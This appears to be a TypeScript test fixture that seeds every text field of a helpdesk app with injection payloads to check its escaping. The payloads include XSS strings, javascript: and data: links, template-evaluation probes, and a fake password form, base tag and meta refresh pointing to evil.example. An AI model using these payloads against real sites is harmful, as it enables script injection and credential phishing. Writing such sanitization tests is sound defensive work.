import type { Demo } from '#test/program.ts';
import { accountOf } from './accounts.ts';
import { apiOf } from './api.ts';
import { addressIn } from './links.ts';

const image = '<img src=x onerror=alert(1)>';
const drawing = '"><svg/onload=alert(2)>';
/** Makes the following text run from right to left. Fields of one line drop it. */
const turned = '\u202e';

/** Known script injections of other helpdesks in one line, which fits into all but the shortest fields. */
export const line = `${image}${drawing}</script><script>alert(3)</script>{{7*7}}`;
export const address = 'javascript:alert(4)';
/** Expressions that template languages would evaluate. */
export const templates = `{{7*7}}$${'{7*7}'}<%=7*7%>`;
const tags = [image, drawing, address, templates];

/** A text of the maximum length of a comment. */
const text = `${line}${turned}\n</script><!--\u2028\n${'<'.repeat(9_800)}`;

/** Every way in which Markdown and its HTML can contain an address or active content. */
export const article = `${line}

[plain](javascript:alert(5)) [cased](JaVaScRiPt:alert(5)) [entity](&#106;avascript:alert(5)) [tab](java&#9;script:alert(5))
[data](data:text/html,<script>alert(5)</script>) [vb](vbscript:alert(5)) <javascript:alert(5)> [referred][there]
![drawn](javascript:alert(5)) ![sent](data:image/svg+xml,<svg/onload=alert(5)>) ![afar](https://evil.example/pixel.png)

[there]: javascript:alert(5) "><script>alert(5)</script>"

<scr<script>ipt>alert(5)</scr</script>ipt>
<a href="javascript:alert(5)" style="position:fixed;inset:0">raw</a>
<form action="https://evil.example"><input name="password"></form><iframe src="javascript:alert(5)"></iframe>
<style>body{display:none}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">

The last line of the article.
`;

export type Victims = Awaited<ReturnType<typeof writeEverywhere>>;

/** Writes these texts into every text field, as users who may write there. */
export async function writeEverywhere(program: Demo) {
  const { call, logIn } = apiOf(program.url);
  const admin = accountOf(program, 'super_admin');
  const token = await logIn(admin.email, admin.password);
  const write = (method: string, path: string, body: object) => call(method, path, { token, body });

  const settings: { id: string; settingKey: string }[] = await call('GET', '/admin/settings', { token });
  for (const [key, settingValue] of Object.entries({ provider_name: line, support_phone: address })) {
    await write('PUT', `/admin/settings/${settings.find(({ settingKey }) => settingKey === key)?.id}`, {
      settingValue,
    });
  }

  const company = { name: line, domain: address, contactEmail: 'a@evil.example', phone: image, address: line };
  const { id: companyId } = await write('POST', '/admin/companies', { ...company, name: 'Before' });
  await write('PUT', `/admin/companies/${companyId}`, company);
  const names = { firstName: line, lastName: line, phone: address, password: 'three blind mice' };
  const client = { ...names, email: `client-${companyId}@evil.example` };
  const { id: clientId } = await write('POST', '/admin/users', { ...client, role: 'manager', companyId });
  await write('POST', '/admin/users', { ...names, email: `admin-${companyId}@evil.example`, role: 'admin' });

  const clientToken = await logIn(client.email, client.password);
  const ticket = { title: line, description: text, category: line, tags };
  const { id: ticketId } = await call('POST', '/tickets', { token: clientToken, body: { ...ticket, title: 'Before' } });
  await write('PUT', `/tickets/${ticketId}`, {
    title: line,
    tags: [...tags, line.slice(0, 50)],
    assignedToId: clientId,
  });
  await call('POST', `/tickets/${ticketId}/comments`, { token: clientToken, body: { comment: text } });
  await write('POST', `/tickets/${ticketId}/comments`, { comment: text, isInternal: true });

  const page = { title: line, content: article, category: line, tags, isPublished: true };
  const { id: articleId } = await write('POST', '/knowledge-base', page);
  const { registrationLink } = await write('POST', '/admin/invitations', { companyId });
  const { resetLink } = await write('POST', `/admin/users/${clientId}/password-reset`, {});
  await sendMessage(program.url);
  return { client, ticketId, articleId, invitation: addressIn(registrationLink), reset: addressIn(resetLink) };
}

/** Sends a message from the website. */
async function sendMessage(url: string) {
  const message = { firstName: line, lastName: line, email: '{{7*7}}@evil.example', phone: address, message: text };
  const response = await fetch(`${url}/api/contact`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(message),
  });
  if (!response.ok) throw new Error(`The message was refused: ${await response.text()}`);
}
